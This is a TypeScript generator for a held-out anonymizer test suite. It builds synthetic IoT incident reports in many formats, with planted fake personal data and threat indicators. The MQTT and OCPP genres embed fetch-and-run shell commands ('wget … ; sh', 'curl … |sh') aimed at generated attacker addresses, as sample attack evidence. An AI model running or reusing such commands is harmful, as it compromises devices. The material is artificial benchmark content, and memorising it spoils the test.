// Tenth, blind and held-out suite (v10): M2M incident submissions from carriers, ISPs, device makers,
// utilities, automotive, payment, medical and building-automation members, in 19 locales. Victim data
// sits in genres written from what an ISAC receives: forwarded mails with quoted headers, Jira and
// ServiceNow exports, WhatsApp and Telegram exports, SIEM JSON, NetFlow CSV, RADIUS and Diameter
// records, SIP INVITEs, DHCP leases, MQTT trees, OCPP frames, OBD logs, HL7 messages, BACnet lists,
// police reports, insurance claims, invoices, GDPR letters, markdown tables, base64 and URL-encoded
// payloads, OCR text and mixed-language notes; and in STIX properties, observables and patterns.
// Written without reading the anonymizer or the other suites. Ground truth is checked by v10-check.ts.
import { deterministicObservableId } from '../../src/stix/index';
import type { StixBundle, StixObject, SubmitterProfile } from '../../src/anonymizer/index';
import { encode, encodingsFor } from './encodings';
import { card, eui64Address, hash, imei as imeiOf, mac as macOf, premiumNumber, privateIpv4, secret, vin as vinOf, luhnDigit } from './identifiers';
import type { LeakForm } from './identifiers';
import { Rng } from './rng';
import type { GeneratedCase, PlantedIdentifier, SurvivalCheck, ThreatValue } from './truth';
import { ACTORS, BAD_TLDS, CVES, DECOY_PEOPLE, MALWARE_FAMILIES, USERISH_MALWARE, V10_LOCALES, type Org, type V10Locale } from './v10-material';

/** A v10 case also lists every concrete string written for a planted or identity value (for the check). */
export interface V10Case extends GeneratedCase {
  rendered: string[];
}

type Vertical = 'carrier' | 'isp' | 'device-maker' | 'utility' | 'automotive' | 'payment' | 'medical' | 'building';
const DEVICE: Record<Vertical, string[]> = {
  carrier: ['LTE-M tracker', 'NB-IoT module', 'eSIM router'],
  isp: ['FTTH ONT', 'DOCSIS cable modem', 'Wi-Fi 6 home gateway'],
  'device-maker': ['IP camera', 'smart doorbell', 'NVR'],
  utility: ['smart meter', 'heat meter', 'data concentrator'],
  automotive: ['telematics control unit', 'OBD-II dongle', 'head unit'],
  payment: ['POS terminal', 'unattended card reader', 'mPOS dongle'],
  medical: ['infusion pump', 'insulin pump gateway', 'patient monitor'],
  building: ['BACnet controller', 'HVAC gateway', 'access-control panel'],
};
const SECTOR: Record<Vertical, string> = { carrier: 'telecommunications', isp: 'telecommunications', 'device-maker': 'technology', utility: 'utilities', automotive: 'manufacturing', payment: 'financial-services', medical: 'healthcare', building: 'infrastructure' };

interface Person {
  given: string;
  family: string;
  full: string;
  latin: string;
}

const LATIN_GIVEN = ['alex', 'sam', 'kim', 'robin', 'chris', 'nico', 'jo', 'max'];

class Ctx {
  readonly planted: PlantedIdentifier[] = [];
  readonly threats: ThreatValue[] = [];
  readonly rendered = new Set<string>();
  readonly staff: Person[] = [];
  attackerIps: string[] = [];
  private used = new Set<string>();
  private seq = 0;

  constructor(readonly r: Rng, readonly L: V10Locale, readonly org: Org, readonly vertical: Vertical, readonly device: string) {}

  plant(category: string, value: string, leak: LeakForm[], where: string, surfaces: string[] = [value]): string {
    this.planted.push({ category, value, leak, where });
    for (const s of surfaces) this.rendered.add(s);
    return surfaces[0];
  }

  threat(category: string, value: string, check: SurvivalCheck, where: string): string {
    this.threats.push({ category, value, check, where });
    return value;
  }

  /** Renders a planted string in an encoding a tool might have applied (mostly plain). */
  enc(s: string): string {
    if (!this.r.chance(0.12)) return s;
    const e = encode(s, this.r.pick(encodingsFor(s)), this.r);
    this.rendered.add(e);
    return e;
  }

  uuid(): string {
    const r = this.r;
    return `${r.hex(8)}-${r.hex(4)}-4${r.hex(3)}-${r.pick(['8', '9', 'a', 'b'])}${r.hex(3)}-${r.hex(12)}`;
  }

  person(): Person {
    for (;;) {
      const given = this.r.pick(this.L.given);
      const family = this.r.pick(this.L.family);
      if (this.used.has(given + family)) continue;
      this.used.add(given + family);
      const full = this.L.full(given, family);
      const latin = this.handle(given, family);
      return { given, family, full, latin };
    }
  }

  /** A login or mailbox name as people pick them: from the name in Latin scripts, a nickname and digits otherwise. */
  private handle(given: string, family: string): string {
    const fold = (x: string) => x.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/ß/g, 'ss').replace(/ł/g, 'l').replace(/ı/g, 'i').toLowerCase().replace(/[^a-z]/g, '');
    const g = fold(given), f = fold(family);
    const n = ++this.seq;
    if (g.length < 2 || f.length < 2) return `${this.r.pick(LATIN_GIVEN)}${this.r.digits(2)}${n}${this.r.chars(2, 'bcdfghkmnprstvz')}`;
    return this.r.pick([`${g[0]}${f}${n}`, `${g}.${f}${n}`, `${f}${g[0]}${n}`, `${g}_${f[0]}${n}${this.r.digits(2)}`]);
  }

  nameForms(p: Person): LeakForm[] {
    if (this.L.boundary === 'text') return [{ kind: 'text', value: p.full }];
    const forms: LeakForm[] = [{ kind: 'word', value: p.full }];
    if ([...p.family].length >= 4) forms.push({ kind: 'word', value: p.family });
    return forms;
  }

  /** A person planted under `role`; returns the name as written. */
  name(role: string, p: Person, where: string, honorific = false): string {
    const text = honorific ? this.L.honorific(p.full) : p.full;
    this.plant(`person:${role}`, p.full, this.nameForms(p), where, [p.full]);
    return text;
  }
}

// ---- victim values ----
function email(c: Ctx, p: Person, where: string, domain?: string): string {
  const d = domain ?? c.r.pick(['gmail.com', 'outlook.com', 'yahoo.co.jp', 'mail.ru', 'gmx.de', 'qq.com', 'naver.com', 'orange.fr', 'uol.com.br', 'proton.me']);
  const v = `${p.latin}.${c.r.chars(4, 'abcdefghkmnprstuvwxyz')}@${d}`;
  return c.plant(domain ? 'email:staff' : 'email:customer', v, [{ kind: 'text', value: v }], where);
}
function phone(c: Ctx, where: string, fmt?: 'national' | 'intl'): string {
  const nsn = c.L.nsn(c.r);
  const text = (fmt ?? c.r.pick(['national', 'intl'] as const)) === 'national' ? c.L.national(nsn) : c.L.intl(nsn);
  return c.plant(`phone:${fmt ?? 'mixed'}`, text, [{ kind: 'digits', value: nsn }], where);
}
function msisdn(c: Ctx, where: string): string {
  const nsn = c.L.nsn(c.r);
  return c.plant('telecom:msisdn', c.L.cc + nsn, [{ kind: 'digits', value: nsn }], where);
}
function imsi(c: Ctx, where: string): string {
  const v = c.r.pick(c.L.mccmnc) + c.r.digits(10);
  return c.plant('telecom:imsi', v, [{ kind: 'digits', value: v.slice(-10) }], where);
}
function imei(c: Ctx, where: string): string {
  const p = imeiOf(c.r);
  return c.plant('device:imei', p.text, p.leak, where);
}
function iccid(c: Ctx, where: string): string {
  const body = ('89' + c.L.cc + c.r.digits(18)).slice(0, 18);
  const full = body + luhnDigit(body);
  return c.plant('telecom:iccid', full, [{ kind: 'digits', value: full.slice(-11, -1) }], where);
}
function macAddr(c: Ctx, where: string): { text: string; octets: string[] } {
  const m = macOf(c.r);
  return { text: c.plant('device:mac', m.planted.text, m.planted.leak, where), octets: m.octets };
}
function serial(c: Ctx, where: string): string {
  const v = c.r.pick([
    () => `${c.r.chars(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${c.r.digits(2)}${c.r.chars(1, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${c.r.digits(7)}`,
    () => `SN-${c.r.digits(4)}-${c.r.chars(4, '0123456789ABCDEF')}-${c.r.digits(3)}`,
    () => `${c.r.digits(2)}${c.r.chars(3, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${c.r.digits(8)}`,
  ])();
  return c.plant('device:serial', v, [{ kind: 'alnum', value: v.toLowerCase().replace(/[^a-z0-9]/g, '') }], where);
}
function vin(c: Ctx, where: string): string {
  const p = vinOf(c.r);
  return c.plant('vehicle:vin', p.text, p.leak, where);
}
function plate(c: Ctx, where: string): string {
  const L = 'ABCDEFGHJKLMNPRSTUVWXYZ';
  const v = c.r.pick([() => `${c.r.chars(2, L)}-${c.r.digits(3)}-${c.r.chars(2, L)}`, () => `${c.r.chars(3, L)} ${c.r.digits(4)}`, () => `${c.r.chars(2, L)}${c.r.digits(2)} ${c.r.chars(3, L)}`])();
  return c.plant('vehicle:plate', v, [{ kind: 'alnum', value: v.toLowerCase().replace(/[^a-z0-9]/g, '') }], where);
}
function nationalId(c: Ctx, where: string): { text: string; label: string } {
  const n = c.L.nationalId(c.r);
  const kind: LeakForm = /^\d+$/.test(n.core) ? { kind: 'digits', value: n.core } : { kind: 'alnum', value: n.core };
  return { text: c.plant('person:national-id', n.text, [kind], where), label: n.label };
}
function account(c: Ctx, where: string): { text: string; label: string } {
  const a = c.L.account(c.r);
  const kind: LeakForm = /^\d+$/.test(a.core) ? { kind: 'digits', value: a.core } : { kind: 'alnum', value: a.core };
  const surfaces = [a.text];
  return { text: c.plant(a.label === 'IBAN' ? 'finance:iban' : 'finance:account', a.text, [kind], where, surfaces), label: a.label };
}
function cardPan(c: Ctx, where: string): string {
  const p = card(c.r);
  return c.plant('finance:card', p.text, p.leak, where);
}
/** A street line and postcode; `lineOnly` when the text writes the street line alone. */
function address(c: Ctx, where: string, lineOnly = false): { line: string; full: string; postcode: string } {
  const street = c.r.pick(c.L.streets);
  const [city, pc] = c.r.pick(c.L.cities);
  const n = String(c.r.int(2, 189));
  const line = c.L.addressLine.replace('{s}', street).replace('{n}', n);
  const postcode = pc(c.r);
  c.plant('location:street', line, [{ kind: 'text', value: line }], where);
  if (!lineOnly) c.plant('location:postcode', postcode, [{ kind: 'word', value: postcode }], where);
  return { line, full: `${line}, ${postcode} ${city}`, postcode };
}
function coords(c: Ctx, where: string): string {
  const lat = (c.r.int(-40, 60) + c.r.next()).toFixed(6);
  const lon = (c.r.int(-100, 140) + c.r.next()).toFixed(6);
  const v = `${lat}, ${lon}`;
  c.plant('location:coordinates', lat, [{ kind: 'text', value: lat }], where, [lat]);
  c.plant('location:coordinates', lon, [{ kind: 'text', value: lon }], where, [lon]);
  return v;
}
function birthDate(c: Ctx, where: string): string {
  const y = c.r.int(1945, 2004), m = c.r.int(1, 12), d = c.r.int(1, 28);
  const p2 = (n: number) => String(n).padStart(2, '0');
  const v = c.r.pick([`${p2(d)}.${p2(m)}.${y}`, `${y}-${p2(m)}-${p2(d)}`, `${p2(d)}/${p2(m)}/${y}`]);
  return c.plant('person:dob', v, [{ kind: 'text', value: v }], where);
}
function username(c: Ctx, p: Person, where: string): string {
  const v = `${p.latin}`;
  return c.plant('account:username', v, [{ kind: 'word', value: v }], where);
}
function homePath(c: Ctx, user: string, where: string): string {
  const v = c.r.pick([`C:\\Users\\${user}\\AppData\\Local\\Temp`, `/home/${user}/.config/agent`, `/Users/${user}/Library/Logs`]);
  c.rendered.add(v);
  return v;
}
function hostname(c: Ctx, p: Person, where: string): string {
  const v = c.r.pick([`LAPTOP-${p.latin.toUpperCase()}`, `${p.latin}-s-iPhone`, `ws-${p.latin}.corp.${c.org.domain}`, `${p.latin}-pc.home.arpa`, `DESKTOP-${c.r.chars(7, 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789')}`]);
  return c.plant('network:hostname', v, [{ kind: 'text', value: v }], where);
}
function internalHost(c: Ctx, where: string): string {
  const v = `${c.r.pick(['jira', 'snow', 'wiki', 'noc', 'oss', 'crm', 'radius01', 'hss-fe2'])}.${c.r.pick(['int', 'corp', 'lan'])}.${c.org.domain}`;
  return c.plant('network:internal-host', v, [{ kind: 'text', value: v }], where);
}
/** A victim public address; `near` puts it in an attacker's /24 without one being a prefix of the other. */
function victimIp(c: Ctx, where: string, near?: string): string {
  let v: string;
  do v = near ? near.split('.').slice(0, 3).join('.') + '.' + c.r.int(100, 254) : `${c.r.pick([31, 46, 78, 84, 93, 109, 151, 188, 201, 203])}.${c.r.int(1, 254)}.${c.r.int(0, 255)}.${c.r.int(100, 254)}`;
  while (c.attackerIps.includes(v));
  return c.plant('network:victim-ip', v, [{ kind: 'ip', value: v }], where);
}
function privIp(c: Ctx, where: string): string {
  const v = privateIpv4(c.r);
  return c.plant('network:private-ip', v, [{ kind: 'ip', value: v }], where);
}
function ref(c: Ctx, kind: 'customer' | 'contract' | 'ticket' | 'meter-point' | 'claim' | 'case', where: string): string {
  const v = c.r.pick({
    customer: [`K${c.r.digits(9)}`, `CUST-${c.r.digits(8)}`, `${c.r.digits(10)}`],
    contract: [`VT-${c.r.digits(4)}-${c.r.digits(6)}`, `CTR${c.r.digits(9)}`],
    ticket: [`INC${c.r.digits(7)}`, `${c.org.short.replace(/[^A-Za-z]/g, '') || 'NOC'}-${c.r.int(10000, 99999)}`, `TT#${c.r.digits(8)}`],
    'meter-point': [`${c.L.country}${c.r.digits(5)}${c.r.chars(6, 'ABCDEFGHJKLMNPRSTUVWXYZ')}${c.r.digits(20)}`.slice(0, 33), `MP-${c.r.digits(11)}`],
    claim: [`CLM-${c.r.digits(4)}-${c.r.digits(6)}`, `SCH${c.r.digits(9)}`],
    case: [`AZ ${c.r.int(100, 999)} Js ${c.r.int(1000, 99999)}/24`, `KUSP-${c.r.digits(6)}`, `BO-${c.r.digits(8)}`],
  }[kind]);
  return c.plant(`id:${kind}`, v, [{ kind: 'alnum', value: v.toLowerCase().replace(/[^a-z0-9]/g, '') }], where);
}
function secretValue(c: Ctx, where: string): { label: string; text: string } {
  const s = secret(c.r);
  return { label: s.label, text: c.plant('secret:token', s.planted.text, s.planted.leak, where) };
}

// ---- threat values ----
interface Threats {
  ips: string[];
  c2: string;
  url: string;
  urlBase: string;
  sha256: string;
  md5: string;
  file: string;
  family: string;
  actor: string;
  cve: string;
  irsf: string;
  smish: string;
  sender: string;
  ja3: string;
}

function threats(c: Ctx): Threats {
  const r = c.r;
  const ips = [0, 1, 2].map(() => `${r.pick([45, 62, 91, 103, 141, 176, 185, 193, 194, 212])}.${r.int(1, 254)}.${r.int(0, 255)}.${r.int(100, 254)}`);
  const slug = c.org.domain.split('.')[0];
  const c2 = r.pick([
    () => `${r.pick(DECOY_PEOPLE)}.${r.pick(BAD_TLDS)}`,
    () => `${slug}-firmware-update.${r.pick(BAD_TLDS)}`,
    () => `${shortSlug(c.org) || 'svc'}-support-portal.${r.pick(BAD_TLDS)}`,
    () => `cdn-${r.chars(6, 'abcdefghkmnprstuvwxyz')}.${r.pick(BAD_TLDS)}`,
  ])();
  const urlBase = `http://${ips[1]}:${r.pick([8080, 8443, 80, 5555])}/${r.pick(['bins', 'dl', 'x', 'upd'])}/${r.pick(['mips', 'arm7', 'x86', 'mpsl'])}`;
  const url = `${urlBase}?id=${r.chars(6, 'abcdef0123456789')}&v=${r.int(1, 9)}`;
  const irsf = premiumNumber(r);
  const smish = r.pick([`+44 7${r.digits(3)} ${r.digits(6)}`, `+63 9${r.digits(2)} ${r.digits(3)} ${r.digits(4)}`, `+234 80${r.digits(1)} ${r.digits(3)} ${r.digits(4)}`]);
  const sender = `${r.pick(['billing', 'noreply', 'support', 'security'])}@${r.pick(['secure-', 'verify-', 'account-'])}${r.chars(7, 'abcdefghkmnprstuvwxyz')}.${r.pick(BAD_TLDS)}`;
  return { ips, c2, url, urlBase, sha256: hash(r, 'SHA-256'), md5: hash(r, 'MD5'), file: r.pick(USERISH_MALWARE), family: r.pick(MALWARE_FAMILIES), actor: r.pick(ACTORS), cve: r.pick(CVES), irsf, smish, sender, ja3: hash(r, 'MD5') };
}

const digitsOf = (s: string) => s.replace(/\D/g, '');

/** The submitter's short name as its tooling writes it in keys and hostnames (ASCII, lower case). */
function shortSlug(org: Org): string {
  const s = org.short.normalize('NFD').replace(/[\u0300-\u036f]/g, '').toLowerCase().replace(/[^a-z]/g, '');
  return s.length >= 3 ? s : '';
}

// ---- genres: each writes one free-text block and plants what it contains ----
type Genre = (c: Ctx, t: Threats, where: string) => string;

const emailForward: Genre = (c, t, w) => {
  const cust = c.person(), s = c.staff[0];
  const ce = email(c, cust, w);
  const ph = phone(c, w);
  return [
    `---------- Forwarded message ---------`,
    `From: "${c.name('customer', cust, w)}" <${ce}>`,
    `Date: ${c.r.int(1, 28)} Mar 2024 08:${c.r.int(10, 59)}`,
    `To: "${s.full}" <${staffMail(c, s)}>`,
    `Cc: noc@${c.org.domain}`,
    `Subject: Re: ${c.device} behaving strangely`,
    ``,
    `> Hello, my ${c.device} keeps calling ${t.irsf} at night. My number is ${c.enc(ph)}.`,
    `> ${c.L.sentence.replace('{d}', c.device).replace('{c}', cust.full)}`,
    ``,
    `${s.full} | ${c.org.name} | ${c.L.words.technician}`,
  ].join('\n');
};

function staffMail(c: Ctx, s: Person): string {
  const v = `${s.latin}@${c.org.domain}`;
  c.rendered.add(v);
  return v;
}

const jiraExport: Genre = (c, t, w) => {
  const cust = c.person();
  const key = ref(c, 'ticket', w);
  const host = internalHost(c, w);
  return `Issue key,Summary,Reporter,Assignee,Customer,Description\n${key},"${c.device} beaconing to ${t.c2}","${c.staff[0].full}","${c.staff[1].full}","${c.name('customer', cust, w)}","See https://${host}/browse/${key}. Device ${serial(c, w)} at ${address(c, w).full} contacted ${t.ips[0]}."`;
};

const serviceNow: Genre = (c, t, w) => {
  const caller = c.person();
  const inc = ref(c, 'ticket', w);
  return [
    `Number: ${inc}`,
    `Caller: ${c.name('customer', caller, w)}`,
    `Location: ${address(c, w).full}`,
    `Configuration item: ${c.device} / ${serial(c, w)}`,
    `Work notes (${c.staff[1].full}):`,
    `  Customer confirms unexpected SMS from ${t.smish}; ${c.L.words.account} ${ref(c, 'customer', w)}.`,
    `  Blocked ${t.c2} on the DNS resolvers.`,
  ].join('\n');
};

const whatsapp: Genre = (c, t, w) => {
  const tech = c.person(), cust = c.person();
  const d = `${c.r.int(10, 28)}/0${c.r.int(1, 9)}/24`;
  return [
    `[${d}, 09:1${c.r.int(0, 9)}:0${c.r.int(0, 9)}] ${c.name('technician', tech, w)}: on site now, ${c.L.words.customer} ${c.name('customer', cust, w)}`,
    `[${d}, 09:2${c.r.int(0, 9)}:1${c.r.int(0, 9)}] ${tech.full}: ${c.L.words.phone} ${phone(c, w, 'national')}, ${c.L.words.address} ${address(c, w, true).line}`,
    `[${d}, 09:3${c.r.int(0, 9)}:4${c.r.int(0, 9)}] ${c.staff[0].full}: ok. is it talking to ${t.ips[2]}?`,
    `[${d}, 09:4${c.r.int(0, 9)}:2${c.r.int(0, 9)}] ${tech.full}: yes, and the IMEI is ${imei(c, w)}`,
  ].join('\n');
};

const telegram: Genre = (c, t, w) => {
  const cust = c.person();
  const uid = `user${c.r.digits(9)}`;
  c.plant('account:messenger-id', uid, [{ kind: 'alnum', value: uid }], w);
  return JSON.stringify({
    name: `${c.org.short} field ops`,
    type: 'private_group',
    messages: [
      { id: c.r.int(1000, 9999), type: 'message', date: '2024-04-02T07:12:44', from: c.name('customer', cust, w), from_id: uid, text: `${c.L.sentence.replace('{d}', c.device).replace('{c}', cust.full)} ${c.L.words.phone}: ${phone(c, w)}` },
      { id: c.r.int(1000, 9999), type: 'message', date: '2024-04-02T07:15:01', from: c.staff[0].full, text: `payload pulled from ${t.url}, sha256 ${t.sha256}` },
    ],
  }, null, 1);
};

const siemJson: Genre = (c, t, w) => {
  const u = c.person();
  const vip = victimIp(c, w, t.ips[0]);
  return JSON.stringify({
    rule: { id: c.r.int(100000, 999999), name: 'Outbound to known Mirai C2', severity: 'high' },
    src: { ip: vip, mac: macAddr(c, w).text, host: hostname(c, u, w), user: username(c, u, w) },
    dst: { ip: t.ips[0], port: 23, domain: t.c2 },
    observer: { vendor: 'Suricata', hostname: internalHost(c, w) },
  });
};

const netflow: Genre = (c, t, w) => {
  const rows = ['ts,src_addr,src_port,dst_addr,dst_port,proto,bytes,pkts'];
  for (let i = 0; i < 3; i++) {
    const v = i === 0 ? victimIp(c, w, t.ips[1]) : i === 1 ? privIp(c, w) : victimIp(c, w);
    rows.push(`2024-05-0${c.r.int(1, 9)}T0${c.r.int(0, 5)}:${c.r.int(10, 59)}:00Z,${v},${c.r.int(1024, 65000)},${t.ips[i]},${c.r.pick([23, 2323, 48101, 443])},6,${c.r.int(400, 90000)},${c.r.int(3, 400)}`);
  }
  return rows.join('\n');
};

const radius: Genre = (c, t, w) => {
  const u = c.person();
  return [
    `Acct-Status-Type = Interim-Update`,
    `User-Name = "${msisdn(c, w)}@${c.r.pick(['m2m', 'iot', 'telemetry'])}.${c.org.domain}"`,
    `Calling-Station-Id = "${macAddr(c, w).text}"`,
    `Framed-IP-Address = ${privIp(c, w)}`,
    `3GPP-IMSI = "${imsi(c, w)}"`,
    `3GPP-IMEISV = "${imeisv(c, w)}"`,
    `NAS-Identifier = "${internalHost(c, w)}"`,
    `Class = "${username(c, u, w)}"`,
    `# flagged: session talked to ${t.ips[0]} and ${t.c2}`,
  ].join('\n');
};

/** IMEISV: the IMEI's 14-digit body and a two-digit software version instead of the check digit. */
function imeisv(c: Ctx, where: string): string {
  const body = imeiOf(c.r).leak[0].value;
  const v = `${body}${c.r.pick(['01', '03', '17', '42'])}`;
  return c.plant('device:imeisv', v, [{ kind: 'digits', value: body }], where);
}

const diameter: Genre = (c, t, w) => [
  `CCR-U  Session-Id: pgw01.${c.org.domain};${c.r.digits(9)};${c.r.digits(5)}`,
  `  Subscription-Id { Subscription-Id-Type: END_USER_E164 (0), Subscription-Id-Data: ${msisdn(c, w)} }`,
  `  Subscription-Id { Subscription-Id-Type: END_USER_IMSI (1), Subscription-Id-Data: ${imsi(c, w)} }`,
  `  User-Equipment-Info-Value: ${imei(c, w)}`,
  `  Called-Station-Id: ${c.r.pick(['iot.m2m', 'telemetry.apn', 'meter.apn'])}`,
  `  Service-Information / SMS: destination ${t.irsf} (premium, blocked)`,
].join('\n');

const sipInvite: Genre = (c, t, w) => {
  const cust = c.person();
  const ms = msisdn(c, w);
  const vip = victimIp(c, w);
  return [
    `INVITE sip:${digitsOf(t.irsf)}@ims.${c.org.domain} SIP/2.0`,
    `Via: SIP/2.0/UDP ${vip}:5060;branch=z9hG4bK${c.r.hex(10)}`,
    `From: "${c.name('customer', cust, w)}" <sip:+${ms}@ims.mnc0${c.L.mccmnc[0].slice(3)}.mcc${c.L.mccmnc[0].slice(0, 3)}.3gppnetwork.org>;tag=${c.r.hex(8)}`,
    `To: <sip:${digitsOf(t.irsf)}@ims.${c.org.domain}>`,
    `P-Asserted-Identity: <tel:+${ms}>`,
    `Contact: <sip:${ms}@${vip}:5060>`,
    `User-Agent: ${c.device} fw ${c.r.int(1, 9)}.${c.r.int(0, 20)}`,
    `X-Fraud-Note: destination ${t.irsf.startsWith('+') ? '+' : ''}${digitsOf(t.irsf)} premium rate, call set up by implant`,
  ].join('\n');
};

const dhcpLeases: Genre = (c, t, w) => {
  const out: string[] = [];
  for (let i = 0; i < 2; i++) {
    const u = c.person();
    out.push(`lease ${privIp(c, w)} {\n  starts 3 2024/05/08 21:14:03;\n  hardware ethernet ${macAddr(c, w).text};\n  client-hostname "${hostname(c, u, w)}";\n}`);
  }
  out.push(`# lease 3 belonged to the ${c.device} that resolved ${t.c2}`);
  return out.join('\n');
};

const mqtt: Genre = (c, t, w) => {
  const cno = ref(c, 'customer', w);
  const sn = serial(c, w);
  const pos = coords(c, w);
  return [
    `$ mosquitto_sub -v -t '${c.org.short.toLowerCase()}/#'`,
    `${c.org.short.toLowerCase()}/cust/${cno}/dev/${sn}/telemetry {"v":230.1,"mp":"${ref(c, 'meter-point', w)}","gps":"${pos}"}`,
    `${c.org.short.toLowerCase()}/cust/${cno}/dev/${sn}/cmd {"exec":"wget ${t.url} -O /tmp/.x; sh /tmp/.x"}`,
  ].join('\n');
};

const ocpp: Genre = (c, t, w) => {
  const tag = c.r.chars(8, '0123456789ABCDEF');
  c.plant('device:rfid-tag', tag, [{ kind: 'alnum', value: tag.toLowerCase() }], w);
  return [
    `[2,"${c.r.hex(8)}","BootNotification",{"chargePointVendor":"${c.org.brand}","chargePointSerialNumber":"${serial(c, w)}","iccid":"${iccid(c, w)}","imsi":"${imsi(c, w)}"}]`,
    `[2,"${c.r.hex(8)}","StartTransaction",{"connectorId":1,"idTag":"${tag}","meterStart":${c.r.int(1000, 90000)},"timestamp":"2024-06-11T18:02:11Z"}]`,
    `[2,"${c.r.hex(8)}","DataTransfer",{"vendorId":"x","data":"curl -s ${t.url}|sh"}]  <- injected via CSMS proxy ${t.ips[2]}`,
  ].join('\n');
};

const obdLog: Genre = (c, t, w) => {
  const v = vin(c, w);
  return [
    `09 02 -> 49 02 01 ${[...v].map((ch) => ch.charCodeAt(0).toString(16).toUpperCase()).join(' ')}`,
    `decoded VIN: ${v}   plate: ${plate(c, w)}`,
    `GNSS fix: ${coords(c, w)}  speed=0`,
    `TCU uplink ${privIp(c, w)} -> ${t.ips[0]}:${c.r.pick([1883, 8883, 443])} (${t.family})`,
  ].join('\n');
};

const hl7: Genre = (c, t, w) => {
  const pat = c.person();
  const a = address(c, w);
  const mrn = `MRN${c.r.digits(8)}`;
  c.plant('id:patient', mrn, [{ kind: 'alnum', value: mrn.toLowerCase() }], w);
  const nm = c.L.boundary === 'text' ? pat.full : `${pat.family}^${pat.given}`;
  c.plant('person:patient', pat.full, c.L.boundary === 'text' ? [{ kind: 'text', value: pat.full }] : [{ kind: 'word', value: pat.family }], w, [nm]);
  return [
    `MSH|^~\\&|${c.r.pick(['PUMPGW', 'MONITOR'])}|WARD${c.r.int(1, 9)}|EMR|HOSP|20240612083000||ORU^R01|${c.r.digits(8)}|P|2.5`,
    `PID|1||${mrn}||${nm}||${hl7Date(c, w)}|${c.r.pick(['F', 'M'])}|||${a.line}^^^^${a.postcode}||${phone(c, w, 'national')}`,
    `OBX|1|ST|PUMP-FW||pump ${serial(c, w)} fetched ${t.urlBase}`,
  ].join('\n');
};

function hl7Date(c: Ctx, where: string): string {
  const v = `${c.r.int(1940, 2005)}${String(c.r.int(1, 12)).padStart(2, '0')}${String(c.r.int(1, 28)).padStart(2, '0')}`;
  return c.plant('person:dob', v, [{ kind: 'word', value: v }], where);
}

const bacnet: Genre = (c, t, w) => {
  const occ = c.person();
  return [
    `| Device instance | Object name | IP | MAC | Notes |`,
    `|---|---|---|---|---|`,
    `| ${c.r.int(1000, 400000)} | AHU-${c.r.int(1, 9)} ${c.L.words.note}: ${c.name('occupant', occ, w)} | ${privIp(c, w)} | ${macAddr(c, w).text} | BBMD |`,
    `| ${c.r.int(1000, 400000)} | VAV-${c.r.int(10, 99)} | ${privIp(c, w)} | ${macAddr(c, w).text} | WriteProperty from ${t.ips[1]} |`,
  ].join('\n');
};

const policeReport: Genre = (c, t, w) => {
  const vic = c.person(), officer = c.person();
  const id = nationalId(c, w);
  return [
    `${ref(c, 'case', w)}`,
    `${c.L.words.victim}: ${c.name('victim', vic, w, true)}, ${c.L.words.dob} ${birthDate(c, w)}, ${id.label} ${id.text}`,
    `${c.L.words.address}: ${address(c, w).full}; ${c.L.words.phone} ${phone(c, w)}`,
    `${c.L.words.police} ${c.name('officer', officer, w)} (${c.r.pick(['badge', 'Dienstnr.', 'No.'])} ${c.r.digits(6)})`,
    `${c.L.words.note} (facts): SMS from ${t.smish} with link to ${t.c2}; device ${c.device} then dialled ${t.irsf}.`,
  ].join('\n');
};

const insurance: Genre = (c, t, w) => {
  const holder = c.person();
  const acc = account(c, w);
  return [
    `Claim ${ref(c, 'claim', w)} — policy holder ${c.name('customer', holder, w)}`,
    `Vehicle: VIN ${vin(c, w)}, plate ${plate(c, w)}`,
    `Payout to ${acc.label}: ${acc.text}`,
    `Loss: keyless relay theft; TCU showed session to ${t.ips[0]} using ${t.cve}.`,
  ].join('\n');
};

const invoice: Genre = (c, t, w) => {
  const payer = c.person();
  const acc = account(c, w);
  return [
    `INVOICE ${c.r.digits(8)} — ${c.name('customer', payer, w)}, ${c.L.words.account} ${ref(c, 'contract', w)}`,
    `pos | SIM | MSISDN | item | amount`,
    `1 | ${iccid(c, w)} | ${msisdn(c, w)} | roaming SMS to ${t.irsf} x${c.r.int(200, 900)} | ${c.r.int(300, 9000)}.${c.r.digits(2)}`,
    `2 | ${iccid(c, w)} | ${msisdn(c, w)} | data | ${c.r.int(5, 90)}.${c.r.digits(2)}`,
    `Direct debit from ${acc.text}${c.r.chance(0.4) ? ` / card ${cardPan(c, w)}` : ''}`,
  ].join('\n');
};

const gdprLetter: Genre = (c, t, w) => {
  const subj = c.person();
  return [
    `Subject access request (Art. 15 GDPR)`,
    `I, ${c.name('customer', subj, w)}, ${c.L.words.address} ${address(c, w).full}, ${c.L.words.customer} ${ref(c, 'customer', w)},`,
    `ask for all data about my ${c.device}. Reply to ${c.enc(email(c, subj, w))}.`,
    `(Forwarded to security because the device had contacted ${t.c2}.)`,
  ].join('\n');
};

const markdownTable: Genre = (c, t, w) => {
  const rows = [`| # | ${c.L.words.customer} | IMEI | ICCID | ${c.L.words.address} |`, '|---|---|---|---|---|'];
  for (let i = 1; i <= 2; i++) rows.push(`| ${i} | ${c.name('customer', c.person(), w)} | ${imei(c, w)} | ${iccid(c, w)} | ${address(c, w, true).line} |`);
  rows.push('', `All ${rows.length - 2} devices pulled ${t.file} (md5 ${t.md5}).`);
  return rows.join('\n');
};

const base64Payload: Genre = (c, t, w) => {
  const ms = c.L.cc + c.L.nsn(c.r);
  const im = imeiOf(c.r).text.replace(/\D/g, '');
  const inner = JSON.stringify({ msisdn: ms, imei: im, c2: t.c2 });
  const b64 = Buffer.from(inner).toString('base64');
  c.plant('encoded:base64-payload', b64, [{ kind: 'text', value: b64 }], w);
  return `Captured activation request body (base64):\n${b64}\nDecoded it names the C2 ${t.c2}.`;
};

const urlEncodedLog: Genre = (c, t, w) => {
  const cust = c.person();
  const em = `${cust.latin}@${c.r.pick(['gmail.com', 'web.de', 'hotmail.com'])}`;
  c.plant('email:customer', em, [{ kind: 'text', value: em }], w, [encodeURIComponent(em)]);
  const ms = msisdn(c, w);
  const tok = c.r.chars(32, 'abcdef0123456789');
  c.plant('secret:session', tok, [{ kind: 'text', value: tok }], w);
  return `${victimIp(c, w)} - - [09/May/2024:02:11:09 +0000] "GET /portal/activate?msisdn=${ms}&email=${encodeURIComponent(em)}&sid=${tok} HTTP/1.1" 302 0 "${t.url}" "Mozilla/5.0"`;
};

